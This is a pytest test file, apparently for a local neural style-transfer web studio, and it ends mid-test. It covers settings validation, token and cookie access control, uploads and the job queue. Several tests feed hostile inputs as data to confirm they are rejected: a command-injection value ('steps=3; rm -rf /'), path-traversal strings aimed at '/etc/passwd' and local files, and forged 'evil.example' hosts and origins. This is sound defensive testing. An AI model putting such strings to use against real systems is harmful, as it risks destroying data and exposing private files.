import argparse
import asyncio
import contextlib
import dataclasses
import gc
import http.client
import io
import json
import os
import random
import re
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import numpy as np
import pytest
import studio_worker
import tifffile
from helpers import refused
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image as pil

from jaxnst import checks, disk, live
from jaxnst.command import stylize
from jaxnst.command.cli import main, parse
from jaxnst.command.flags import assignment, painting_from, run_from
from jaxnst.foreign import MOST_BYTES
from jaxnst.live import LiveReader, LiveWriter
from jaxnst.objective import Terms
from jaxnst.painting.plan import PATCH_STEPS, Stage, total_work, work_done
from jaxnst.painting.stages import Progress
from jaxnst.pictures.files import (
    load_image,
    load_numbers,
    read_description,
    save_image,
)
from jaxnst.pictures.samples import sample_path
from jaxnst.recipes import RECIPES, get_recipe
from jaxnst.request.manifest import as_json, check_manifest, read_manifest
from jaxnst.request.manifest import painting_of as read_painting
from jaxnst.request.painting import RegionFile, StyleFile
from jaxnst.request.terminal import as_command
from jaxnst.studio import jobs, serve
from jaxnst.studio import pictures as uploads
from jaxnst.studio.guard import Access, Guard
from jaxnst.studio.history import History
from jaxnst.studio.jobs import Worker
from jaxnst.studio.news import News, pack
from jaxnst.studio.pictures import Pictures
from jaxnst.studio.serve import PAGE, Server, listen
from jaxnst.studio.server import Studio
from jaxnst.studio.settings import (
    Region,
    Settings,
    painting_of,
    read_settings,
    variations,
)
from jaxnst.studio.watch import served
from jaxnst.transfer import Info

TOKEN, COOKIE = "t" * 43, "c" * 43
HOST = "127.0.0.1"
CHOSEN = {"content": "harbour", "styles": ["swirls"]}
PAINTERLY = json.dumps(get_recipe("painterly").values())
WORKER = (sys.executable, studio_worker.__file__, PAINTERLY)
REAL_WORKER = (sys.executable, "-m", "jaxnst.command.worker")
LOOP = "loop of the studio"


@contextlib.contextmanager
def running(worker=WORKER):
    """A studio that listens in a thread, until the block ends."""
    listener = listen(HOST, 0)
    studio = Studio(Path("studio"), Worker(worker))
    studio.access = Access(HOST, listener.getsockname()[1], TOKEN, COOKIE)
    server = Server(studio.app(studio.access), studio.leave)
    thread = threading.Thread(target=server.run, args=([listener],), name=LOOP)
    thread.start()
    try:
        wait_for(lambda: server.started)
        yield studio
    finally:
        server.should_exit = True
        thread.join()
        listener.close()


@pytest.fixture
def studio(elsewhere):
    with running() as studio:
        yield studio


def visitor(studio, **headers):
    """A client that does not know the token."""
    return httpx.Client(base_url=base(studio), headers=headers, timeout=20)


@contextlib.contextmanager
def insider(studio):
    """A client that opened an address, and says where it comes from."""
    with visitor(studio, origin=base(studio)) as client:
        assert client.get(studio.access.address).status_code == 200
        yield client


def base(studio):
    return f"http://{HOST}:{studio.access.port}"


@pytest.fixture
def stranger(studio):
    with visitor(studio) as client:
        yield client


@pytest.fixture
def client(studio):
    with insider(studio) as client:
        yield client


def paint(client, kind="picture", **settings):
    data = {"kind": kind, "settings": CHOSEN | settings}
    answer = client.post("/jobs", json=data)
    assert answer.status_code == 201, answer.text
    return answer.json()


def wait_for(condition):
    for _ in range(3000):
        if condition():
            return
        time.sleep(0.02)
    raise AssertionError("nothing happened")


def states(studio):
    return [job.state for job in studio.queue.jobs]


def write_manifest(out, **changes):
    Path(f"{out}.json").write_text(json.dumps(studio_worker.MANIFEST | changes))


def listed(history):
    history.refresh()
    return history.since(0)[1]


def png(width=8, height=6, color="teal"):
    memory = io.BytesIO()
    pil.new("RGB", (width, height), color).save(memory, "PNG")
    return memory.getvalue()


# ---- settings


def test_settings_become_arguments_that_the_command_understands():
    wanted = Settings(
        content="a",
        styles=("b", "c"),
        blend=(2.0, 0.5),
        size=320,
        quality="best",
        recipe="delicate",
        content_weight=0.25,
        style_scale=1.5,
        colors="luminance",
        regions=tuple(read_settings(WITH_REGION).regions),
        content_mask="m",
        seed=7,
        bits=16,
        set=("history=5", "min_size=64", "rotate_styles=true"),
    )
    painting = read_painting(painting_of(wanted, Path(), "imagenet"))
    args = parse(as_command(painting, Path("o.png")))
    assert painting_from(args, args.content, args.style) == painting
    b, c = (StyleFile(path=Path(x), weight=y) for x, y in (("b", 2.0), ("c", 0.5)))
    assert (painting.content, painting.styles) == (Path("a"), (b, c))
    region = RegionFile(mask=Path("m"), styles=(StyleFile(path=Path("b")),))
    assert (painting.regions, painting.content_mask) == ((region,), Path("m"))
    values = painting.recipe.values()
    assert (painting.size, painting.seed, painting.weights) == (320, 7, "imagenet")
    assert (values["content_weight"], values["style_scale"]) == (0.25, 1.5)
    assert (values["colors"], values["rotate_styles"]) == ("luminance", True)
    assert (values["history"], values["min_size"], values["steps"]) == (5, 64, 90)


WITH_REGION = CHOSEN | {"regions": [{"mask": "m", "styles": ["b"]}]}


def test_a_preview_varies_content_weight_and_strokes_around_what_is_chosen():
    chosen = Settings(content="a", styles=("b", "c"), content_weight=3.0)
    cells = variations(chosen)
    pairs = [(cell["content_weight"], cell["style_scale"]) for cell in cells]
    assert pairs == [(x, y) for x in (1.0, 3.0, 9.0) for y in (0.6, 1.0, 1.5)]


@pytest.mark.parametrize("name", RECIPES)
@pytest.mark.parametrize("further", [(), ("squash_style=true",)])
def test_strokes_are_asked_for_only_where_they_have_an_effect(name, further):
    chosen = Settings(
        content="a", styles=("b",), recipe=name, style_scale=2.0, set=further
    )
    value = painting_of(chosen, Path(), None)
    values = read_painting(value).recipe.values()
    idle = values["squash_style"] or not RECIPES[name].paints
    assert values["style_scale"] == (1.0 if idle else 2.0)
    for cell in variations(chosen):
        assert ("style_scale" in cell) != idle
        read_painting(value | {"recipe": value["recipe"] | cell})


def test_the_page_knows_which_sliders_have_an_effect(client):
    idle = lambda **settings: client.post("/check", json=settings).json()["idle"]
    for name, recipe in RECIPES.items():
        squashed, paints = recipe.sizes.squash_style, recipe.paints
        assert idle(recipe=name) == (["style_scale"] if squashed or not paints else [])
        other = f"squash_style={not squashed}"
        assert bool(idle(recipe=name, set=[other])) != (squashed and paints)
    settings = CHOSEN | {"recipe": "gatys2016", "style_scale": 0.5}
    data = {"kind": "preview", "settings": settings}
    assert client.post("/jobs", json=data).status_code == 201


@pytest.mark.parametrize("folder", ["a,b", "a=b", 'a"b', "-a", "a,b.png=c", "m.png="])
def test_regions_of_a_folder_of_any_name_are_divided_rightly(elsewhere, folder):
    sources = Path(folder)
    sources.mkdir()
    for name in (*"abm", "b.png", "b,c.jpg"):
        (sources / name).touch()
        Path(name).touch()  # what a name could be misread as
    regions = Region("m", ("a", "b")), Region("b", ("b.png", "b,c.jpg", "a"))
    chosen = Settings(content="a", regions=regions, keep_rest=True)
    painting = read_painting(painting_of(chosen, sources, None))
    a = StyleFile(path=sources / "a", mask=sources / "m", stroke_scale=2.0)
    masked = dataclasses.replace(painting, styles=(a,), keep_rest=False, regions=())
    for one in (painting, masked):
        args = parse(as_command(one, sources / "o.png"))
        assert painting_from(args, args.content, args.style) == one
        assert args.out == sources / "o.png"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"content": None}, "photograph"),
        ({"content": "../../etc/passwd"}, "text in content"),
        ({"styles": []}, "painting"),
        ({"styles": ["a"] * 9}, "length <= 8 in styles"),
        ({"blend": [1, 2]}, "each of 1 paintings"),
        ({"blend": [0]}, "some weight"),
        ({"blend": [float("nan")]}, "blend"),
        ({"size": 10**9}, "from 16 to 20000, got 1000000000"),
        ({"size": True}, "a whole number, got bool"),
        ({"recipe": "none"}, "no recipe is called 'none'"),
        ({"quality": ["best"]}, "quality"),
        ({"set": ["steps=3; rm -rf /"]}, "text at .* in set|text in set"),
        ({"set": ["--out=x"]}, "no field is called"),
        ({"set": ["style_wieght=3"]}, "did you mean style_weight="),
        ({"set": ["steps=abc"]}, "steps cannot be 'abc'; give a whole number"),
        (
            {"set": ["content_weight=2"], "content_weight": 1},
            "content_weight is set here and by a control",
        ),
        ({"set": ["style_layers=relu9_9"]}, "relu9_9"),
        ({"set": ["beta1=0.5"]}, "beta1 has no effect where optimizer is lbfgs"),
        ({"keep_rest": True}, "keep_rest needs regions"),
        ({"regions": [{"mask": "m", "styles": []}]}, "length >= 1 at .* in regions"),
        ({"sizes": 3}, "did you mean size"),
    ],
)
def test_settings_that_are_wrong_are_refused_in_a_line(change, said):
    with pytest.raises(ValueError, match=said) as caught:
        read_settings(CHOSEN | change)
    assert "\n" not in str(caught.value)


def test_the_page_is_told_all_that_is_wrong_by_name(client, studio):
    data = {"size": 10, "seed": -1, "set": ["style_wieght=3"]}
    wrong_with = lambda data: client.post("/check", json=data).json()["wrong"]
    wrong = wrong_with(data)
    assert wrong.keys() == data.keys()
    with pytest.raises(argparse.ArgumentTypeError) as said:
        assignment("style_wieght=3")  # as the terminal says it
    assert wrong["set"] == str(said.value)
    limits = client.get("/options").json()["limits"]
    assert "from {} to {}".format(*limits["size"]) in wrong["size"]
    assert wrong_with(CHOSEN | {"set": ["tv_weight=1"]}) == {}
    unset = {"recipe": None, "set": None, "colors": None}
    assert wrong_with(CHOSEN | unset) == {}
    small = wrong_with(CHOSEN | {"size": 20})
    assert "at least 32 px on each side, got 20 x 15 px" in small["size"]
    assert not studio.queue.jobs


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda x: st.lists(x, max_size=3) | st.dictionaries(st.text(max_size=8), x),
    max_leaves=6,
)
NAMES = list(Settings.__dataclass_fields__)


@given(JSON | st.dictionaries(st.sampled_from(NAMES), JSON))
def test_any_json_is_settings_or_a_value_error(data):
    try:
        found = read_settings(data)
    except ValueError:
        return
    assert read_settings(found.as_json()) == found


# ---- who may talk to the server


def test_an_address_opens_one_browser_which_then_has_a_cookie(stranger, studio):
    for path in ("/", "/options", "/page/studio.js", "/events", "/history/a/file"):
        refused = stranger.get(path)
        assert refused.status_code == 403
        assert "newest address" in refused.text
    assert stranger.get("/?token=wrong").status_code == 403
    assert stranger.head(f"/?token={TOKEN}").status_code == 403  # spends nothing
    first = stranger.get(f"/?token={TOKEN}")
    # A redirect would carry no strict cookie where a link of another site led here.
    assert (first.status_code, first.headers["refresh"]) == (200, "0; url=/")
    cookie = first.headers["set-cookie"].lower()
    for part in (f"jaxnst-{studio.access.port}=", "httponly", "samesite=strict"):
        assert part in cookie
    assert "path=/;" in f"{cookie};"
    assert TOKEN not in cookie
    assert stranger.get("/").status_code == 200
    # The same address again: this browser is known, another one is told what to do.
    again = stranger.get(f"/?token={TOKEN}")
    assert (again.status_code, again.headers["refresh"]) == (200, "0; url=/")
    with visitor(studio) as other:
        second = other.get(f"/?token={TOKEN}")
        assert second.status_code == 403
        assert "opened before" in second.text
        assert "set-cookie" not in second.headers
        # The token of an address is no cookie, and the cookie opens no address.
        for value in (TOKEN, studio.access.token, "wrong"):
            headers = {"cookie": f"jaxnst-{studio.access.port}={value}"}
            assert other.get("/options", headers=headers).status_code == 403
        assert other.get(f"/?token={COOKIE}").status_code == 403


def test_each_address_that_is_opened_is_followed_by_another_one(studio):
    printed = []
    access = studio.access
    access.on_use = lambda: printed.append(access.address)
    address = access.address
    for count in range(3):
        with httpx.Client() as client:
            assert client.get(address).status_code == 200
        assert len(printed) == count + 1
        address = printed[-1]
    assert len(set(printed)) == 3


@pytest.mark.parametrize(
    "host",
    ["evil.example", "evil.example:{}", "127.0.0.1", "", "a@127.0.0.1:{}", "[::1:{}"],
)
def test_another_host_is_refused_whatever_the_token(client, studio, host):
    headers = {"host": host.format(studio.access.port)}
    del client.headers["origin"]
    assert client.get("/options", headers=headers).status_code == 421


@pytest.mark.parametrize(
    ("host", "name", "ours"),
    [
        ("127.0.0.1", "localhost:80", True),
        ("127.0.0.1", "10.0.0.7:80", False),
        ("0.0.0.0", "10.0.0.7:80", True),
        ("0.0.0.0", "[fe80::1]:80", True),
        ("0.0.0.0", f"{socket.gethostname()}:80", True),
        ("0.0.0.0", "evil.example:80", False),
        ("10.0.0.7", "10.0.0.7:80", True),
        ("10.0.0.7", "10.0.0.8:80", False),
        ("10.0.0.7", "10.0.0.7:81", False),
    ],
)
def test_a_name_that_anybody_can_point_here_is_never_ours(host, name, ours):
    assert Guard(lambda *x: None, Access(host, 80)).is_ours(name) == ours


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "https://127.0.0.1:{}", "http://[", ""]
)
def test_another_origin_is_refused(client, studio, origin):
    data = {"kind": "picture", "settings": CHOSEN}
    headers = {"origin": origin.format(studio.access.port)}
    assert client.post("/jobs", json=data, headers=headers).status_code == 403
    assert client.get("/options", headers=headers).status_code == 403
    del client.headers["origin"]  # no browser leaves it out
    assert client.post("/jobs", json=data).status_code == 403


def test_the_page_may_load_only_what_the_server_sends(client):
    for path in ("/", "/options", "/page/studio.css", "/nowhere"):
        headers = client.get(path).headers
        assert "default-src 'none'; script-src 'self'" in headers[POLICY]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["cross-origin-resource-policy"] == "same-origin"
        assert "access-control-allow-origin" not in headers


POLICY = "content-security-policy"


SENT = [x for x in PAGE.rglob("*") if x.suffix in (".html", ".css", ".js", ".svg")]


@pytest.mark.parametrize("path", sorted(SENT), ids=lambda path: path.name)
def test_the_page_refers_to_nothing_elsewhere(path):
    text = re.sub(r"http://www\.w3\.org/[\w/]+", "", path.read_text())  # namespaces
    assert not re.search(r"https?://|(?:src|href)=[\"']?//|@import|url\(", text)
    if path.suffix == ".html":  # the policy would refuse what is inside the page
        assert not re.search(r"<script>|\son\w+=|style=", text)


SECRET = "a secret of this machine"
PLACES = [
    "/page/%s", "/pictures/%s", "/pictures/%s/view", "/pictures/%s/thumb",
    "/history/%s/file", "/history/%s/view", "/history/%s/before",
    "/history/%s/manifest", "/jobs/%s/frame", "/jobs/%s/cells/0",
]  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
def test_no_path_of_the_machine_can_be_read(studio, place, tmp_path):
    (tmp_path / "secret.png").write_text(SECRET)
    names = ["../secret.png", "..%2Fsecret.png", "%2e%2e/secret.png", "..\\secret.png"]
    names += [str(tmp_path / "secret.png"), "%00", "..", "secret.png", "a" * 3000]
    for name in names:
        caller = http.client.HTTPConnection(HOST, studio.access.port)
        cookie = f"jaxnst-{studio.access.port}={COOKIE}"  # httpx would tidy the path up
        caller.request("GET", place % name, headers={"cookie": cookie})
        answer = caller.getresponse()
        text = answer.read().decode()
        assert answer.status in (400, 404), text
        assert SECRET not in text
        assert str(tmp_path) not in text
        caller.close()


def test_neither_links_nor_manifests_lead_out_of_the_folder(client, tmp_path):
    folder = tmp_path / "studio"
    (folder / "sources").mkdir(parents=True)
    (tmp_path / "private.png").write_bytes(png())
    (folder / "sources" / "link.png").symlink_to(tmp_path / "private.png")
    assert client.get("/pictures/link.png").status_code == 400
    (folder / "a.png").write_bytes(png())
    write_manifest(folder / "a.png", content="../private.png")
    assert client.get("/history/a.png/view").status_code == 200
    assert client.get("/history/a.png/before").status_code == 404
    (folder / "b.png").symlink_to(tmp_path / "private.png")
    write_manifest(folder / "b.png")
    assert client.get("/history/b.png/file").status_code == 404


# ---- uploads


def upload(client, data, name="a.png"):
    return client.post("/pictures", params={"name": name}, content=data)


def test_an_upload_is_private_until_it_is_painted_from(client, studio):
    found = upload(client, png(), "C:\\holiday\\my photo.png").json()
    assert (found["name"], found["width"], found["height"]) == ("my photo.png", 8, 6)
    private = studio.pictures.private
    assert stat.S_IMODE(private.stat().st_mode) == 0o700
    view = client.get(f"/pictures/{found['id']}/view")
    assert pil.open(io.BytesIO(view.content)).size == (8, 6)
    assert not Path("studio/sources").exists()
    paint(client, content=found["id"])
    (kept,) = Path("studio/sources").glob("my-photo-*.png")
    assert kept.read_bytes() == png()


def test_parts_of_a_picture_are_found(client):
    find = lambda part, data=b"": client.post(
        f"/pictures/harbour/parts/{part}", content=data
    )
    sky = pil.open(io.BytesIO(find("sky").content))
    assert (sky.mode, sky.size) == ("LA", (640, 480))
    alpha = np.asarray(sky)[..., 1]
    assert alpha[:40].min() > 250
    assert alpha[-100:].max() < 5
    memory = io.BytesIO()
    ink = pil.new("RGBA", (64, 48), (255, 45, 135, 0))
    ink.paste((255, 45, 135, 255), (56, 15, 59, 34))  # a lighthouse
    ink.save(memory, "PNG")
    found = np.asarray(pil.open(io.BytesIO(find("painted", memory.getvalue()).content)))
    assert found[200, 575, 1] > 200
    assert found[200, [500, 635], 1].max() < 50
    for part, data, said in (
        ("moon", b"", "no such part"),
        ("painted", b"", "expected a mask as a PNG"),
        ("painted", memory.getvalue()[:60], "expected a mask as a PNG"),
    ):
        answer = find(part, data)
        assert answer.status_code in (400, 404)
        assert said in answer.text


def test_pictures_keep_the_names_that_people_gave(client, studio):
    found = upload(client, png(), "Bild (2) Привет.png").json()
    name = paint(client, content=found["id"])["name"]
    wait_for(lambda: studio.queue.jobs[0].over)
    (result,) = listed(studio.history)
    kept = result["settings"]["content"]
    assert kept != found["id"]
    with running() as later, insider(later) as other:  # another start
        again = other.get(f"/pictures/{kept}").json()
        assert again["name"] == "Bild (2) Привет.png"
        second = paint(other, content=kept)["name"]
        assert second == name.replace(".png", "-2.png")
        index = Path("studio/sources/names.json")
        half = f'{{"{kept}": "\\ud800"}}'  # of a character
        for text in (f'{{"{kept}": 3}}', half, "[" * 10_000, "[]", ""):
            index.write_text(text)
            assert Pictures(index.parent).find(kept).name == "Bild-2.png"


def test_variations_are_found_again_as_a_group(client, studio):
    paint(client, "preview", seed=5)
    folder = studio.queue.jobs[0].group
    wait_for(lambda: studio.queue.jobs[0].over)
    painted = (folder / "1.png").read_bytes()
    others = groups_of_others(folder)
    with running() as later, insider(later) as client:
        (group,) = later.queue.as_json()
        assert (group["kind"], group["state"], group["name"]) == (
            *("preview", "done", "harbour.jpg"),
        )
        assert [cell["there"] for cell in group["cells"]] == [i == 1 for i in range(9)]
        at = f"/jobs/{group['id']}"
        assert client.get(f"{at}/cells/1").content == painted
        settings = client.get(f"{at}/settings").json()
        assert settings["seed"] == 5
        assert read_settings(settings).content.startswith("harbour-")
        assert client.delete(at).status_code == 204
        assert not later.queue.jobs
    assert not folder.exists()
    assert all(x.exists() for x in others)


def groups_of_others(folder):
    """What is no group of ours, though it looks much like this one."""
    names = "number", "deep", "large", "pipe"
    made = [folder.with_name(f"group-{name}") for name in names]
    texts = '{"content": 3}', "[" * 10_000, " " * (MOST_BYTES + 1)
    for other in made:
        other.mkdir()
    for other, text in zip(made, texts, strict=False):
        (other / "settings.json").write_text(text)
    os.mkfifo(made[-1] / "settings.json")
    elsewhere = Path("holiday")
    shutil.copytree(folder, elsewhere)
    (folder.parent / "group-link").symlink_to(elsewhere.resolve())
    shutil.copytree(folder, folder.with_name("holiday"))
    old = folder.with_name("group-old")  # its pictures are none that we would paint
    shutil.copytree(folder, old)
    (old / "1.png.json").write_text("no manifest of ours")
    return [*made, elsewhere / "1.png", folder.with_name("holiday"), old / "1.png"]


def test_what_others_put_into_a_group_is_kept(client, studio):
    paint(client, "preview")
    job = studio.queue.jobs[0]
    wait_for(lambda: job.over)
    for name in ("mine.png", "mine.png.json"):
        (job.group / name).write_text("mine")
    assert client.delete(f"/jobs/{job.id}").status_code == 204
    left = {path.name for path in job.group.iterdir()}
    assert left == {"mine.png", "mine.png.json"}


def test_a_preview_that_painted_nothing_leaves_no_folder(client, studio):
    paint(client, "preview", seed=2)
    job = studio.queue.jobs[0]
    wait_for(lambda: job.over)
    assert job.state == "failed"
    assert not job.group.exists()
    assert studio.queue.jobs == [job]  # says why


def test_paintings_push_no_variations_out(client, studio):
    for kind in ("preview", *["picture"] * 22):
        paint(client, kind)
    wait_for(lambda: all(job.over for job in studio.queue.jobs))
    kinds = [job.kind for job in studio.queue.jobs]
    assert kinds == ["preview", *["picture"] * 20]


def test_a_tab_is_told_of_groups_that_come_and_go(client, studio):
    tab = Tab()
    with client.stream("GET", "/events") as answer:
        events = told(answer)
        job = paint(client, "preview")
        while tab.jobs.get(job["id"], {}).get("state") != "done":
            tab.take(next(events))
        assert sum(cell["there"] for cell in tab.jobs[job["id"]]["cells"]) == 1
        shutil.rmtree(studio.queue.jobs[0].group)
        assert client.get(f"/jobs/{job['id']}/cells/1").status_code == 404
        while tab.order:
            tab.take(next(events))
    with client.stream("GET", "/events") as answer:  # a tab that comes again
        assert next(told(answer))["order"] == []


def test_uploads_are_deleted_when_the_studio_ends(elsewhere):
    with running() as studio, insider(studio) as client:
        assert upload(client, png()).status_code == 201
        assert studio.pictures.private.is_dir()
    assert not studio.pictures.private.exists()


@pytest.mark.parametrize(
    "data", [b"just a text", b"", b"\x89PNG\r\n\x1a\n", png()[:40], b"GIF89a" * 99]
)
def test_what_is_no_picture_is_refused_by_its_own_name(client, studio, data):
    answer = upload(client, data, "notes.png")
    assert answer.status_code == 400
    assert "notes.png" in answer.text
    assert str(studio.pictures.private) not in answer.text
    assert not list(studio.pictures.private.iterdir())
    assert total(studio) == 0


def test_uploads_are_bounded_in_bytes_and_pixels(client, studio, monkeypatch):
    monkeypatch.setattr(uploads, "MOST_PIXELS", 40)
    assert "megapixels" in upload(client, png()).text
    monkeypatch.setattr(uploads, "MOST_BYTES", 50)
    answer = upload(client, png(99, 99))
    assert answer.status_code == 413
    never_ends = (b"x" * 20 for _ in iter(int, 1))
    with contextlib.suppress(httpx.TransportError):  # the server hangs up
        assert upload(client, never_ends).status_code == 413
    assert not list(studio.pictures.private.iterdir())


def total(studio):
    """Bytes of all uploads."""
    return sum(studio.pictures.uploads.values())


def test_a_full_place_for_uploads_is_said_and_emptied(client, studio, monkeypatch):
    size = len(png())
    monkeypatch.setattr(uploads, "MOST_OF_ALL", 2 * size)
    first, _ = (upload(client, png()).json() for _ in range(2))
    refused = upload(client, png())
    assert refused.status_code == 413
    assert "of uploads in all" in refused.text
    assert "2 others are not used yet" in refused.text
    assert total(studio) == 2 * size
    # What is painted from lies beside the results, and takes no room here any more.
    paint(client, content=first["id"])
    assert total(studio) == size
    assert client.get(f"/pictures/{first['id']}/view").status_code == 200
    paint(client, content=first["id"])
    assert len(list(Path("studio/sources").glob("a-*.png"))) == 1
    assert upload(client, png()).status_code == 201


def test_forty_megapixels_are_taken_up(client):
    memory = io.BytesIO()
    pil.linear_gradient("L").resize((7328, 5496)).save(memory, "JPEG")
    found = upload(client, memory.getvalue(), "large.jpg").json()
    assert (found["width"], found["height"]) == (7328, 5496)
    view = client.get(f"/pictures/{found['id']}/view")
    assert pil.open(io.BytesIO(view.content)).size == (1600, 1200)


# ---- the queue


def test_one_is_painted_at_a_time_and_a_stopped_one_keeps_what_is_there(client, studio):
    first, second, third = (paint(client, seed=seed) for seed in (1, 0, 1))
    wait_for(lambda: studio.queue.jobs[0].live.lines)
    assert states(studio) == ["painting", "waiting", "waiting"]
    assert [job["place"] for job in studio.queue.as_json()] == [0, 1, 2]
    frame = client.get(f"/jobs/{first['id']}/frame")
    assert frame.content == sample_path("harbour").read_bytes()
    assert client.delete(f"/jobs/{third['id']}").status_code == 204
    assert client.delete(f"/jobs/{first['id']}").status_code == 204
    wait_for(lambda: studio.queue.jobs[1].over)
    assert states(studio) == ["stopped", "done", "stopped"]
    found = {entry["name"]: entry["state"] for entry in listed(studio.history)}
    assert found == {first["name"]: "stopped", second["name"]: "done"}
    assert client.get(f"/history/{first['name']}/thumb").status_code == 200
    again = client.post(f"/history/{first['name']}/resume", json={})
    assert again.status_code == 201
    assert studio.queue.jobs[-1].pictures[0]["run"]["resume"]


def test_a_painting_that_fails_or_crashes_leaves_the_studio_running(client, studio):
    for seed in (2, 3, 0):
        paint(client, seed=seed)
    wait_for(lambda: all(job.over for job in studio.queue.jobs))
    refused, crashed, _ = studio.queue.jobs
    assert states(studio) == ["failed", "failed", "done"]
    assert refused.message == "expected more, got less"
    assert "Segmentation fault" in crashed.message
    assert [entry["state"] for entry in listed(studio.history)] == ["done"]


def test_a_full_disk_fails_one_job_and_not_the_next(client, studio, monkeypatch):
    with monkeypatch.context() as patch:
        patch.setattr(studio.queue, "on_end", full_disk)
        paint(client)
        wait_for(lambda: states(studio) == ["failed"])
    assert "No space left" in studio.queue.jobs[0].message
    paint(client)
    wait_for(lambda: states(studio) == ["failed", "done"])


def full_disk(job):
    raise OSError("No space left on device")


def test_what_cannot_be_looked_at_fails_one_job_and_not_those_that_wait(client, studio):
    paint(client, seed=1)
    first = studio.queue.jobs[0]
    first.look = lambda: full_disk(first)
    paint(client)
    paint(client)
    wait_for(lambda: states(studio) == ["failed", "done", "done"])


def test_jobs_share_no_folder_and_torn_lines_are_passed_over(client, studio):
    for _ in range(2):
        paint(client, "preview")
    folders = {job.folder for job in studio.queue.jobs}
    assert len(folders) == 2
    folder = folders.pop()
    line = json.dumps({"scale": 0, "terms": {}, "frame": 1})
    (folder / "lines.jsonl").write_text(f"{line[:9]}{line}\n{line}\n")
    reader = LiveReader(folder)
    reader.read()
    assert len(reader.lines) == 1


def test_a_job_for_which_there_is_no_room_leaves_no_record(client, studio, monkeypatch):
    monkeypatch.setattr(jobs, "MOST_WAITING", 0)
    data = {"kind": "picture", "settings": CHOSEN}
    assert "at most 0" in client.post("/jobs", json=data).text
    assert not listed(studio.history)


def test_results_of_any_name_are_downloaded(client, studio):
    name = 'Łódź "水".png'
    save_image(studio.folder / name, np.zeros((4, 6, 3)))
    write_manifest(studio.folder / name, terms={"style": 3.5})
    for kind in ("file", "tiff", "manifest"):
        answer = client.get(f"/history/{name}/{kind}")
        assert answer.status_code == 200
        if kind == "manifest":  # with everything that it says
            assert answer.json() == studio_worker.MANIFEST | {"terms": {"style": 3.5}}
        assert "%C5%81%C3%B3d%C5%BA" in answer.headers["content-disposition"]


def test_a_stopped_run_that_goes_on_is_shown_anew(tmp_path):
    history = History(tmp_path)
    history.record("a.png", read_settings(CHOSEN))
    seen = []
    for shade in (0.2, 0.8):
        save_image(history.so_far("a.png"), np.full((4, 6, 3), shade))
        seen.append(history.find("a.png").version)
    assert seen[0] != seen[1]


@pytest.mark.parametrize("lines", [[], [{"scale": 0, "terms": {}, "frame": 1}]])
def test_a_job_that_hangs_is_ended_at_once_or_when_it_is_stopped_twice(
    elsewhere, lines
):
    hanging = (sys.executable, "-c", HANGS, *map(json.dumps, lines))
    with running(hanging) as studio, insider(studio) as client:
        job = paint(client)
        first = studio.queue.jobs[0]
        wait_for(
            lambda: first.message == "deaf" and len(first.live.lines) == len(lines)
        )
        client.delete(f"/jobs/{job['id']}")
        if lines:  # there is something to keep
            assert states(studio) == ["stopping"]
            client.delete(f"/jobs/{job['id']}")
        wait_for(lambda: states(studio) == ["stopped"])


HANGS = """
import json, pathlib, signal, sys, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
job = json.loads(sys.stdin.readline())
folder = pathlib.Path(job["pictures"][0]["run"]["live_folder"])
for line in sys.argv[1:]:
    (folder / "lines.jsonl").write_text(line + "\\n")
print("deaf", flush=True)
time.sleep(60)
"""


def test_jobs_that_cannot_be_are_refused(client):
    refused = lambda data: client.post("/jobs", json=data).status_code == 400
    assert refused({"kind": "picture"})
    assert refused({"kind": "video", "settings": CHOSEN})
    assert refused({"kind": "picture", "settings": CHOSEN | {"content": "gone.png"}})
    assert client.post("/jobs", content=b"[" * 100_000).status_code == 400
    assert client.post("/jobs", content=b"x" * 10**7).status_code == 413
    assert client.delete("/jobs/none").status_code == 404


def test_a_restart_finds_results_of_the_studio_and_of_the_command(client, studio):
    name = paint(client)["name"]
    wait_for(lambda: states(studio) == ["done"])
    save_image(Path("studio/by-hand.png"), np.full((6, 8, 3), 0.5))
    write_manifest(Path("studio/by-hand.png"))
    later = History(Path("studio"))
    found = {entry["name"]: entry for entry in listed(later)}
    assert set(found) == {name, "by-hand.png"}
    assert found[name]["settings"]["seed"] == 0
    assert found[name]["command"].startswith("jaxnst stylize studio/sources/harbour-")
    assert found["by-hand.png"]["command"] == "jaxnst again studio/by-hand.png"
    assert client.delete(f"/history/{name}").status_code == 204
    assert [entry["name"] for entry in listed(later)] == ["by-hand.png"]


def test_names_of_results_never_meet_what_is_there(tmp_path):
    history = History(tmp_path)
    (tmp_path / "a-b.png").touch()
    (tmp_path / "a-b-2.png.checkpoint.npz").touch()
    assert history.free_name(["a.jpg", "b.jpg"], ["a-b-3.png"]) == "a-b-4.png"
    assert history.free_name(["../ü.jpg", "-rf /"]) == "picture-rf.png"


@pytest.mark.parametrize("bits", [8, 16])
def test_a_tiff_has_the_same_levels_and_the_same_manifest(client, tmp_path, bits):
    image = np.random.default_rng(0).random((6, 8, 3))
    target = tmp_path / "studio" / "a.png"
    target.parent.mkdir()
    save_image(target, image, bits=bits, description='{"a": 1}')
    write_manifest(target)
    answer = client.get("/history/a.png/tiff")
    assert 'filename="a.tif"' in answer.headers["content-disposition"]
    (tmp_path / "b.tif").write_bytes(answer.content)
    levels, tiff = load_numbers(target), tifffile.imread(tmp_path / "b.tif")
    assert tiff.dtype == f"uint{bits}"
    np.testing.assert_array_equal(tiff, np.rint(levels * (2**bits - 1)))
    np.testing.assert_allclose(levels, image, atol=0.51 / (2**bits - 1))
    assert read_description(tmp_path / "b.tif") == '{"a": 1}'


# ---- a real server


def test_it_listens_only_to_this_machine():
    with listen(HOST, 0) as listener:
        port = listener.getsockname()[1]
        with pytest.raises(ValueError, match="cannot be used"):
            listen(HOST, port)
        others = {x[4][0] for x in socket.getaddrinfo(socket.gethostname(), None)}
        for address in others - {HOST, "::1"}:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            with socket.socket(family) as caller:
                assert caller.connect_ex((address, port)) != 0


def test_a_thousand_malformed_requests_leave_it_running(studio):
    port = studio.access.port
    chance = random.Random(0)
    cookie = f"Cookie: jaxnst-{port}={COOKIE}\r\nHost: {HOST}:{port}\r\n".encode()
    lines = [
        b"GET /options HTTP/1.1\r\n",
